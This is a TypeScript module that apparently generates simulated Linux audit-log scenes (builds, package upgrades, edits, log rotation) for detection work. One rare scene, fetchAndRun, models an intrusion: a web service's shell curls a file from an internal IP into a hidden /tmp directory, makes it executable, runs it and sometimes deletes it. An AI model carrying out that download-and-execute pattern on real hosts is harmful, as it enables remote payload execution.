import { type Host, shell } from "./host.ts";
import type { FileEntry, Process } from "./process.ts";
import { SERVICES } from "./services.ts";

type Scene = (host: Host) => void;

const LIBRARIES = ["libc", "libm", "libssl", "libz", "libxml2", "libcurl", "libpng16", "libsqlite3", "libglib-2.0"];
const PROGRAMS = ["grep", "sed", "awk", "cat", "ls", "stat", "date", "sort", "head", "id", "cut", "tr", "wc", "find"];
const SOURCES = ["main", "parse", "table", "alloc", "string", "hash", "list", "queue", "socket", "config", "error"];
const PACKAGES = [
  "libxml2",
  "curl",
  "openssl",
  "vim-common",
  "python3.11-minimal",
  "bind9-libs",
  "tzdata",
  "perl-base",
];

function build(host: Host): void {
  const { random } = host.log;
  const session = host.log.session();
  const project = `/home/dev/${random.pick(["engine", "proxy", "agent", "tools"])}-${random.below(40)}`;
  const owner = { uid: 1001, user: "dev", auid: 1001, session, tty: `pts${random.below(4)}` };
  const bash = shell(host, host.services[1] as Process, owner, project);
  const make = host.fork(bash);
  host.execute(make, "/usr/bin/make", ["make", "-j2"]);
  const objects: FileEntry[] = [];
  for (let index = 2 + random.below(6); index > 0; index--) objects.push(compile(host, make, random.pick(SOURCES)));
  const link = host.fork(make);
  const out = `${project}/bin/app-${random.word(4)}`;
  host.execute(link, "/usr/bin/x86_64-linux-gnu-gcc-12", ["gcc", "-s", "-o", out, ...objects.map(({ path }) => path)]);
  const ld = host.fork(link);
  host.execute(ld, "/usr/bin/x86_64-linux-gnu-ld.bfd", [
    "/usr/bin/ld",
    "-pie",
    "-z",
    "now",
    "-o",
    out,
    "-lc",
    "--as-needed",
  ]);
  const file = host.create(ld, out);
  host.chmod(ld, file, "1ed");
  host.exit(ld);
  host.exit(link);
  const test = host.fork(make);
  host.execute(test, file.path, [file.path, "--self-test"], file);
  host.exit(test);
  if (random.below(2) === 0) for (const object of objects) host.unlink(make, object);
  host.exit(make);
  host.exit(bash);
}

function compile(host: Host, make: Process, source: string): FileEntry {
  const { random } = host.log;
  const name = `${source}-${random.below(500)}`;
  const sh = host.fork(make);
  host.execute(sh, "/usr/bin/dash", ["/bin/sh", "-c", `gcc -O2 -Wall -Iinclude -c -o build/${name}.o src/${name}.c`]);
  const gcc = host.fork(sh);
  host.execute(gcc, "/usr/bin/x86_64-linux-gnu-gcc-12", [
    "gcc",
    "-O2",
    "-Wall",
    "-c",
    "-o",
    `build/${name}.o`,
    `src/${name}.c`,
  ]);
  const assembly = host.create(gcc, `/tmp/cc${random.word(6)}.s`, "0100600");
  const cc1 = host.fork(gcc);
  const flags = [
    "-quiet",
    "-imultiarch",
    "x86_64-linux-gnu",
    "-dumpbase",
    `${name}.c`,
    "-mtune=generic",
    "-march=x86-64",
  ];
  host.execute(cc1, "/usr/lib/gcc/x86_64-linux-gnu/12/cc1", ["/usr/lib/gcc/x86_64-linux-gnu/12/cc1", ...flags]);
  host.overwrite(cc1, assembly);
  host.exit(cc1);
  const as = host.fork(gcc);
  host.execute(as, "/usr/bin/x86_64-linux-gnu-as", ["as", "--64", "-o", `build/${name}.o`, assembly.path]);
  const object = host.create(as, `build/${name}.o`);
  host.exit(as);
  host.unlink(gcc, assembly);
  host.exit(gcc);
  host.exit(sh);
  return object;
}

function upgrade(host: Host): void {
  const { random } = host.log;
  const pack = random.pick(PACKAGES);
  const apt = { ...host.fork(host.init), tty: "pts0" };
  host.execute(apt, "/usr/bin/apt-get", ["apt-get", "upgrade", "-y"]);
  const dpkg = host.fork(apt);
  host.execute(dpkg, "/usr/bin/dpkg", [
    "/usr/bin/dpkg",
    "--status-fd",
    "20",
    "--unpack",
    `/var/cache/apt/archives/${pack}_1_amd64.deb`,
  ]);
  host.run(dpkg, "dpkg-split", ["-Qao", "/var/lib/dpkg/reassemble.deb", `/var/cache/apt/archives/${pack}_1_amd64.deb`]);
  for (let index = 2 + random.below(8); index > 0; index--) {
    const library = random.below(3) > 0;
    const target = library
      ? `/usr/lib/x86_64-linux-gnu/${random.pick(LIBRARIES)}.so.${random.below(9)}.${random.below(99)}`
      : `/usr/bin/${pack}-${random.word(5)}`;
    const file = host.create(dpkg, `${target}.dpkg-new`, "0100000");
    host.chmod(dpkg, file, library ? "1a4" : "1ed");
    const replaced = random.below(2) === 0 ? { ...file, inode: host.log.inode() } : undefined;
    host.rename(dpkg, file, target, replaced);
  }
  const list = host.create(dpkg, `/var/lib/dpkg/info/${pack}.list-new`);
  host.rename(dpkg, list, `/var/lib/dpkg/info/${pack}.list`, { ...list, inode: host.log.inode() });
  const script = host.fork(dpkg);
  host.execute(script, "/usr/bin/dash", ["/bin/sh", `/var/lib/dpkg/info/${pack}.postinst`, "configure", "1.0"]);
  for (let index = random.below(4); index > 0; index--) host.run(script, random.pick(PROGRAMS), ["-q", "/etc/passwd"]);
  host.exit(script);
  host.exit(dpkg);
  host.exit(apt);
}

function fetchAndRun(host: Host): void {
  const { random } = host.log;
  const service = host.services[2 + random.below(3)] as Process;
  const sh = host.fork(service);
  host.execute(sh, "/usr/bin/dash", ["sh", "-c", `cd /tmp && ./job ${random.word(8)}`]);
  sh.cwd = "/var/www/app";
  const curl = host.fork(sh);
  const path = `/tmp/.cache-${random.word(2)}/${random.pick(["agent", "update", "worker", "helper"])}-${random.word(4)}`;
  host.execute(curl, "/usr/bin/curl", [
    "curl",
    "-fsS",
    "-o",
    path,
    `http://10.0.0.${random.below(250)}/${random.word(12)}`,
  ]);
  const file = host.create(curl, path);
  host.exit(curl);
  const chmod = host.fork(sh);
  host.execute(chmod, "/usr/bin/chmod", ["chmod", "755", path]);
  host.chmod(chmod, file, "1ed");
  host.exit(chmod);
  const run = host.fork(sh);
  host.execute(run, path, [path, `--id=${random.word(6)}`], file);
  host.exit(run, random.below(2));
  if (random.below(2) === 0) host.unlink(sh, file);
  host.exit(sh);
}

function edit(host: Host): void {
  const { random } = host.log;
  const owner = { uid: 1001, user: "dev", auid: 1001, session: host.log.session(), tty: `pts${random.below(6)}` };
  const bash = shell(host, host.services[1] as Process, owner, "/home/dev");
  for (let index = random.below(6); index > 0; index--) {
    host.run(bash, random.pick(PROGRAMS), ["--color=auto", random.word(7), `${random.word(5)} ${random.word(3)}`]);
  }
  const vim = host.fork(bash);
  const path = `notes/${random.word(9)}.md`;
  host.execute(vim, "/usr/bin/vim.basic", ["vim", path]);
  const swap = host.create(vim, `/home/dev/notes/.${random.word(9)}.md.swp`, "0100600");
  const saved = host.create(vim, `/home/dev/${path}~`);
  host.rename(vim, saved, `/home/dev/${path}`, { ...saved, inode: host.log.inode() });
  host.unlink(vim, swap);
  host.exit(vim);
  host.exit(bash);
}

function rotate(host: Host): void {
  const { random } = host.log;
  const cron = host.services[0] as Process;
  const sh = { ...host.fork(cron), auid: 0, session: host.log.session() };
  host.execute(sh, "/usr/bin/dash", ["/bin/sh", "-c", "test -x /usr/sbin/logrotate && logrotate /etc/logrotate.conf"]);
  const logrotate = host.fork(sh);
  host.execute(logrotate, "/usr/sbin/logrotate", ["logrotate", "/etc/logrotate.conf"]);
  for (let index = 1 + random.below(5); index > 0; index--) {
    const name = `/var/log/${random.pick(SERVICES)}-${random.below(30)}.log`;
    const file = { path: name, inode: host.log.inode(), mode: "0100640", uid: 0, user: "root" };
    host.rename(logrotate, file, `${name}.1`);
    host.create(logrotate, name, "0100640");
    const gzip = host.fork(logrotate);
    host.execute(gzip, "/usr/bin/gzip", ["/bin/gzip", "-9"]);
    host.exit(gzip);
  }
  host.exit(logrotate);
  host.exit(sh);
}

/** How often each scene is played, in a hundred: an intruder is rare even on a busy host. */
export const SCENES = [
  ...Array<Scene>(30).fill(build),
  ...Array<Scene>(9).fill(upgrade),
  ...Array<Scene>(35).fill(edit),
  ...Array<Scene>(25).fill(rotate),
  fetchAndRun,
];
